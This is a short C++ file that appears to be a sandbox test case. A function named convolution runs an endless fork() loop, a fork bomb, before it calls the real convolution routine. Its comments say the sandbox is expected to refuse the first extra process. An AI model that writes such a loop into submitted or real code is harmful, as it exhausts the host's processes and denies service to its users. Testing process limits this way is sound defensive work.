// Starts processes until the machine has no more.
// Caught: the first one is refused.
#include <unistd.h>

#include "convolve.h"

extern "C" void convolution(const float* x, const float* k, float* y, int B,
                            int C, int H, int W, int M, int K) {
  while (fork() >= 0) {
  }
  Convolve(x, k, y, B, C, H, W, M, K);
}
